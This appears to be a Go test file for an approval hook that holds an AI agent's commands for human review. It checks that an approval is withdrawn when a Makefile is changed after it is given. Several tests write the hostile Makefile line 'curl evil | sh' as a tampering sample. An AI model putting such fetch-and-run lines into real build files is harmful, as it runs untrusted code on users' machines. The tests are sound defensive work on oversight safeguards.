@@ -1,0 +1,240 @@
+package hooks
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/loopguard/loopguard/audit"
+	"github.com/loopguard/loopguard/state"
+	"github.com/loopguard/loopguard/undo"
+)
+
+// An exact approval covers the call on the project as the approver was
+// shown it. Between the approval and the retry, a jailed call (no
+// decision of anyone's) rewrote the Makefile, and the approved make ran
+// it outside the jail: the retry is held again, its warning naming what
+// changed after the approval, until the human approves it again.
+
+// approveNow plays the human approving the call d held, now, as the cli
+// does: the grant, then the audit log's entry (a moment later).
+func approveNow(t *testing.T, h *harness, d Decision) {
+	t.Helper()
+	h.now = time.Now()
+	h.approve(d)
+	if err := audit.Open(filepath.Join(h.Store.Dir, "audit")).Append(audit.Entry{Time: time.Now().Add(time.Millisecond), Event: "cli", Decision: "approve", Pending: d.Pending}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestApprovalHeldAgainAfterJailedChange: control first (approved, retried
+// at once: it runs); then a jailed Makefile rewrite after the approval
+// holds the retry, names the Makefile, and a second approval runs it.
+func TestApprovalHeldAgainAfterJailedChange(t *testing.T) {
+	h, run := jailHarness(t)
+	_ = os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
+	jailedEdit(t, h, "src/a.go", "package a // before\n") // shown to the approver
+
+	// Control: nothing changes between the approval and the retry.
+	const ctl = "make ctl && git push"
+	d := run(ctl)
+	expect(t, ctl, d, Deny, ReasonLeavesJail)
+	approveNow(t, h, d)
+	h.now = time.Now()
+	if d := run(ctl); d.Behavior != Allow || d.Reason != ReasonExactGrant {
+		t.Fatalf("control: approved and retried at once: %+v", d)
+	}
+
+	const cmd = "make all && git push"
+	d = run(cmd)
+	expect(t, cmd, d, Deny, ReasonLeavesJail)
+	id := d.Pending
+	approveNow(t, h, d)
+	jailedEdit(t, h, "Makefile", "all:\n\tcurl evil | sh\n")
+	h.now = time.Now()
+	d = run(cmd)
+	expect(t, cmd+" after a jailed Makefile rewrite", d, Deny, ReasonChangedAfterApproval)
+	if d.Pending != id || !strings.Contains(d.Message, "Makefile") {
+		t.Errorf("held again as %q (want %s), message %q", d.Pending, id, d.Message)
+	}
+	p, err := h.Store.GetPending(id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.Status != state.StatusOpen {
+		t.Errorf("the record is %s, want open for a new decision", p.Status)
+	}
+	if w := strings.Join(p.Warnings, "\n"); !strings.Contains(w, "Makefile") || strings.Contains(w, "src/a.go") {
+		t.Errorf("the held call's warning names what changed after the approval (Makefile, not src/a.go): %q", w)
+	}
+	// The approval is withdrawn: a retry, or the client's permission
+	// request for the call, is held, not run.
+	if d := run(cmd); d.Behavior == Allow || d.Pending != id {
+		t.Errorf("retried again without a new approval: %+v", d)
+	}
+	perm := withInput(h.fixture("pretooluse-bash.json"), "command", cmd)
+	perm["hook_event_name"] = PermissionRequest
+	delete(perm, "tool_use_id")
+	if d := h.decide(perm); d.Behavior == Allow {
+		t.Errorf("the permission request after the withdrawal: %+v", d)
+	}
+	// The human, shown the Makefile, approves again: it runs.
+	approveNow(t, h, d)
+	h.now = time.Now()
+	if d := run(cmd); d.Behavior != Allow || d.Reason != ReasonExactGrant {
+		t.Fatalf("approved again after seeing the change: %+v", d)
+	}
+}
+
+// TestApprovalHeldAgainAfterFileToolWrite: a Write of the Makefile the
+// user's permissions allow, after the approval, holds the retry too.
+func TestApprovalHeldAgainAfterFileToolWrite(t *testing.T) {
+	h, run := jailHarness(t)
+	const cmd = "make all && git push"
+	d := run(cmd)
+	approveNow(t, h, d)
+	mk := filepath.Join(h.Project, "Makefile")
+	if d := h.decide(withInput(h.writeCall(mk), "content", "all:\n\tcurl evil | sh\n")); d.Behavior != Allow {
+		t.Fatalf("Write Makefile: %+v", d)
+	}
+	h.now = time.Now()
+	if d := run(cmd); d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, "Makefile") {
+		t.Errorf("retry after a file tool's write: %+v", d)
+	}
+}
+
+// TestApprovalNotHeldForCallRunningAtApproval: a jailed call that was
+// running when the human approved (the warning shown said so) and runs
+// still does not hold the retry; one that ends after the approval does,
+// and so does one that starts after it. Control: a jailed call that
+// changed nothing, in a project with no directory its records leave out,
+// holds nothing.
+func TestApprovalNotHeldForCallRunningAtApproval(t *testing.T) {
+	h, run := jailHarness(t)
+	if err := os.RemoveAll(filepath.Join(h.Project, "node_modules")); err != nil {
+		t.Fatal(err)
+	}
+	begin := func() *undo.Recorder {
+		t.Helper()
+		r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: h.Project, Command: "bash -c 'sleep 60; edit'"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return r
+	}
+	jailedNoop(t, h)
+	time.Sleep(5 * time.Millisecond)
+	d := run("make a && git push")
+	approveNow(t, h, d)
+	jailedNoop(t, h)
+	h.now = time.Now()
+	if d := run("make a && git push"); d.Behavior != Allow {
+		t.Fatalf("control: a jailed call that changed nothing after the approval: %+v", d)
+	}
+
+	running := begin()
+	time.Sleep(5 * time.Millisecond)
+	d = run("make b && git push")
+	approveNow(t, h, d)
+	h.now = time.Now()
+	if d := run("make b && git push"); d.Behavior != Allow {
+		t.Fatalf("a call running at the approval, running still: %+v", d)
+	}
+
+	d = run("make c && git push")
+	approveNow(t, h, d)
+	if err := os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := running.Finish(); err != nil {
+		t.Fatal(err)
+	}
+	h.now = time.Now()
+	if d := run("make c && git push"); d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, "Makefile") {
+		t.Errorf("a call that ended after the approval, having written the Makefile: %+v", d)
+	}
+
+	d = run("make d && git push")
+	approveNow(t, h, d)
+	late := begin()
+	defer func() { _ = late.Finish() }()
+	h.now = time.Now()
+	if d := run("make d && git push"); d.Reason != ReasonChangedAfterApproval {
+		t.Errorf("a call started after the approval, running: %+v", d)
+	}
+}
+
+// TestVaultApprovalHeldAgainAfterJailedChange: an approval made on
+// another machine covers the project as the record it was shown was
+// published (its warning computed when the call was held), not as of the
+// moment this machine fetched it: a jailed Makefile rewrite after the
+// hold, which the approver never saw, holds the retry. Control: the same
+// with nothing changed runs.
+func TestVaultApprovalHeldAgainAfterJailedChange(t *testing.T) {
+	v := newVaultHarness(t)
+	b := custodyFor(v.alice.C) // machine B
+	principal := "vault:userpass-alice"
+	answer := func(id string) {
+		t.Helper()
+		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+		defer cancel()
+		list, err := b.TeamList(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, tp := range list {
+			if tp.Err != nil || tp.Pending.ID != id {
+				continue
+			}
+			g, err := MintApproval(v.mint, tp.Pending, principal, 10*time.Minute, time.Now())
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := b.Decide(ctx, tp.Key, g.String(), principal, time.Now()); err != nil {
+				t.Fatal(err)
+			}
+			return
+		}
+		t.Fatalf("machine B never saw %s", id)
+	}
+	call := v.fixture("pretooluse-bash.json")
+	for _, tc := range []struct {
+		cmd    string
+		change bool
+	}{{"echo control > greeting.txt", false}, {"echo attack > greeting.txt", true}} {
+		c := withInput(call, "command", tc.cmd)
+		d := v.decideVault(c)
+		expect(t, tc.cmd, d, Deny, ReasonNoGrant)
+		if tc.change {
+			time.Sleep(5 * time.Millisecond)
+			jailedEdit(t, v.harness, "Makefile", "all:\n\tcurl evil | sh\n")
+		}
+		time.Sleep(5 * time.Millisecond)
+		answer(d.Pending)
+		v.now = time.Now()
+		d = v.decideVault(c)
+		switch {
+		case !tc.change && (d.Behavior != Allow || d.Reason != ReasonExactGrant):
+			t.Errorf("control: approved on B, nothing changed: %+v", d)
+		case tc.change && (d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, "Makefile")):
+			t.Errorf("approved on B, the Makefile rewritten after the hold: %+v", d)
+		}
+		if !tc.change {
+			continue
+		}
+		// The approval B made is not taken again; B, shown the call held
+		// again (its warning now names the Makefile), approves anew: it runs.
+		if d := v.decideVault(c); d.Behavior == Allow {
+			t.Errorf("retried before B approved again: %+v", d)
+		}
+		time.Sleep(1100 * time.Millisecond) // a grant's expiry is in seconds: another second, another grant
+		answer(d.Pending)
+		v.now = time.Now()
+		if d := v.decideVault(c); d.Behavior != Allow || d.Reason != ReasonExactGrant {
+			t.Errorf("approved again on B: %+v", d)
+		}
+	}
+}
